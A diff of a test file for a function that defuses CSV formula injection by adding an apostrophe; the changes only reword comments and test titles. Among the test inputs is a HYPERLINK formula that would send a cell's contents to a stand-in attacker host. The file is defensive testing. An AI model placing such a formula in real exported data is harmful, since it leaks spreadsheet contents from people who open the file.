@@ -2,10 +2,9 @@ import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { defuseFormula } from '../../src/write/cells.js';
 
-// The rules of Excel and LibreOffice for a cell of a CSV file: a value that begins with = + - or @ is read as a formula;
-// white space and characters that have no width before the sign are dropped first; full-width signs count as the plain
-// ones where East Asian input is on; quotes of the CSV do not help, since they are gone before the value is looked at;
-// an apostrophe in front makes the value text.
+// Rules of Excel and LibreOffice for CSV cells: a value that starts with = + - or @ is a formula. White space
+// and zero-width characters before the sign are skipped. Full-width signs count as plain ones with East Asian
+// input. CSV quotes do not help, because they are removed first. A leading apostrophe makes the value text.
 test.each([
   '=1+1',
   '=HYPERLINK("http://evil.example?x="&A1,"click")',
@@ -47,7 +46,7 @@ test.each([
   '+12345;=1',
   '-1e',
   '-5 USD|x',
-])('%j is defused', (text) => {
+])('%j gets an apostrophe', (text) => {
   expect(defuseFormula(text)).toBe(`'${text}`);
 });
 
@@ -83,11 +82,11 @@ test.each([
   '+442071234567',
   '-',
   '--',
-])('%j is left whole', (text) => {
+])('%j is unchanged', (text) => {
   expect(defuseFormula(text)).toBe(text);
 });
 
-test('whatever the text, what comes out starts no formula or is a number, and the text is all there', () => {
+test('any text becomes a non-formula or a number, and no text is lost', () => {
   const unit = fc.constantFrom('=', '+', '-', '@', '\t', ' ', '\u200b', '＝', '1', '.', 'A', '(', '|');
   fc.assert(
     fc.property(fc.string({ unit }), (text) => {
@@ -101,7 +100,7 @@ test('whatever the text, what comes out starts no formula or is a number, and th
   );
 });
 
-test('long text is judged without a pause', () => {
+test('long text is checked quickly', () => {
   expect(defuseFormula(`=${'1 '.repeat(500_000)}`).startsWith("'=")).toBe(true);
   expect(defuseFormula(`-${'1 '.repeat(500_000)}x`).startsWith("'-")).toBe(true);
   expect(defuseFormula(`${' \u200b'.repeat(500_000)}=1`).startsWith("' ")).toBe(true);
